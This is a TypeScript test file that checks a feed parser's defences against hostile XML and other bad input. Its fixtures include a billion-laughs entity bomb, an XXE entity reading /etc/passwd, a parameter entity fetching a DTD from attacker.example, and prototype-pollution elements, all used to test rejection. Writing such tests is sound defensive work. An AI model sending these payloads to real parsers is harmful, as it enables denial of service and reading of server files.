// @vitest-environment node
import { describe, expect, it } from 'vitest';
import { parseFeedText } from '@/shared/feed/parse';
import type { ParseResult } from '@/shared/feed/types';
import { decodeXmlEntities } from '@/shared/feed/xml-text';
import { englishText } from '@/shared/cli/english';

function rejection(result: ParseResult): string {
  if (result.ok) throw new Error('expected the feed to be rejected');
  return result.errors.map((e) => `${e.path}: ${englishText(e)}`).join('\n');
}

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<rss version="2.0"><channel><title>&lol9;</title><item><guid>1</guid><title>&lol9;</title></item></channel></rss>`;

const EXTERNAL_ENTITY = `<?xml version="1.0"?>
<!DOCTYPE feed [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<feed xmlns="http://www.w3.org/2005/Atom"><title>&xxe;</title><entry><id>1</id><title>&xxe;</title></entry></feed>`;

const PARAMETER_ENTITY = `<?xml version="1.0"?>
<!DOCTYPE rss [ <!ENTITY % remote SYSTEM "https://attacker.example/evil.dtd"> %remote; ]>
<rss version="2.0"><channel><title>x</title></channel></rss>`;

function bigRss(bytes: number): string {
  const item = `<item><guid>ID</guid><title>${'x'.repeat(900)}</title></item>`;
  const count = Math.ceil(bytes / item.length);
  const items = Array.from({ length: count }, (_, i) => item.replace('ID', String(i))).join('');
  return `<rss version="2.0"><channel><title>Big</title>${items}</channel></rss>`;
}

describe('hostile XML', () => {
  it.each([
    ['an entity expansion bomb (billion laughs)', BILLION_LAUGHS],
    ['an external entity (XXE)', EXTERNAL_ENTITY],
    ['an external parameter entity', PARAMETER_ENTITY],
  ])('rejects %s without expanding anything', (_name, text) => {
    const message = rejection(parseFeedText(text));
    expect(message).toMatch(/declares its own entities.*remove the DOCTYPE/);
    expect(message).not.toMatch(/lollol|root:/);
  });

  it('accepts a DOCTYPE without entity declarations (old RSS 0.91 feeds carry one)', () => {
    const text =
      '<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">' +
      '<rss version="0.91"><channel><title>Old</title><item><link>https://x.example/1</link><title>a</title></item></channel></rss>';
    const result = parseFeedText(text);
    expect(result.ok && result.feed.items[0]?.id).toBe('https://x.example/1');
  });

  it('does not mistake an article about XXE for a DOCTYPE', () => {
    const text =
      '<rss version="2.0"><channel><title>Sec</title><item><guid>1</guid>' +
      '<description><![CDATA[<p>Never accept &lt;!ENTITY e SYSTEM "file:///"&gt; from users.</p>]]></description></item></channel></rss>';
    const result = parseFeedText(text);
    expect(result.ok && result.feed.items[0]?.summary).toBe(
      'Never accept <!ENTITY e SYSTEM "file:///"> from users.',
    );
  });

  it('leaves undeclared entities as written instead of resolving them', () => {
    const result = parseFeedText(
      '<rss version="2.0"><channel><title>&custom; &amp;amp; &#65;</title></channel></rss>',
    );
    // RSS titles are double-escaped by many generators: `&amp;amp;` reads as "&".
    expect(result.ok && result.feed.meta.title).toBe('&custom; & A');
  });

  it('rejects a 6 MB document with the 5 MB limit', () => {
    const text = bigRss(6 * 1024 * 1024);
    expect(text.length).toBeGreaterThan(6 * 1024 * 1024);
    expect(rejection(parseFeedText(text))).toBe('(root): The feed is larger than 5 MB.');
  });

  it('counts bytes, not characters: 2 million three-byte characters are over 5 MB', () => {
    const text = `<rss version="2.0"><channel><title>${'€'.repeat(2_000_000)}</title></channel></rss>`;
    expect(rejection(parseFeedText(text))).toMatch(/larger than 5 MB/);
  });

  it('rejects more than 5,000 items, naming the element', () => {
    const items = Array.from(
      { length: 5001 },
      (_, i) => `<item><guid>${i}</guid><title>t</title></item>`,
    ).join('');
    const message = rejection(
      parseFeedText(`<rss version="2.0"><channel><title>Many</title>${items}</channel></rss>`),
    );
    expect(message).toMatch(/^rss\.channel\.item: .*5,001 entries; a feed may have at most 5,000/);
  });

  it.each([
    [
      'an unclosed element',
      '<rss version="2.0"><channel><title>x</title></rss>',
      /malformed at line 1, column \d+/,
    ],
    [
      'a bare ampersand',
      '<rss version="2.0"><channel><title>Tom & Jerry</title></channel></rss>',
      /malformed/,
    ],
    [
      'text after the root',
      '<rss version="2.0"><channel><title>x</title></channel></rss><rss/>',
      /malformed/,
    ],
    ['an unterminated DOCTYPE', '<!DOCTYPE rss [ <!ENTITY a "b"> <rss version="2.0"/>', /not a JSON feed/],
  ])('rejects malformed XML: %s', (_name, text, message) => {
    expect(rejection(parseFeedText(text))).toMatch(message);
  });

  it('survives deep nesting without a stack overflow', () => {
    const deep = `${'<div>'.repeat(5000)}x${'</div>'.repeat(5000)}`;
    const text = `<rss version="2.0"><channel><title>x</title><item><guid>1</guid><description>${deep}</description></item></channel></rss>`;
    const result = parseFeedText(text);
    expect(result.ok || rejection(result)).toBeTruthy();
  });

  it('refuses __proto__ elements without polluting anything', () => {
    const text =
      '<rss version="2.0"><channel><title>x</title><__proto__><polluted>1</polluted></__proto__>' +
      '<item><guid>1</guid><title>a</title></item></channel></rss>';
    expect(rejection(parseFeedText(text))).toMatch(/could not be read: .*__proto__/);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('keeps constructor elements inert', () => {
    const text =
      '<rss version="2.0"><channel><title>x</title><item><guid>1</guid><title>a</title>' +
      '<constructor><prototype><pinned>true</pinned></prototype></constructor></item></channel></rss>';
    const result = parseFeedText(text);
    expect(result.ok && result.feed.items[0]?.pinned).toBe(false);
  });

  it('decodes only the predefined entities and numeric references, capped and valid', () => {
    expect(decodeXmlEntities('&lt;b&gt; &amp;lt; &#x1F600; &#0; &#xD800; &#99999999; &nbsp;')).toBe(
      '<b> &lt; 😀 \uFFFD \uFFFD &#99999999; &nbsp;',
    );
  });
});
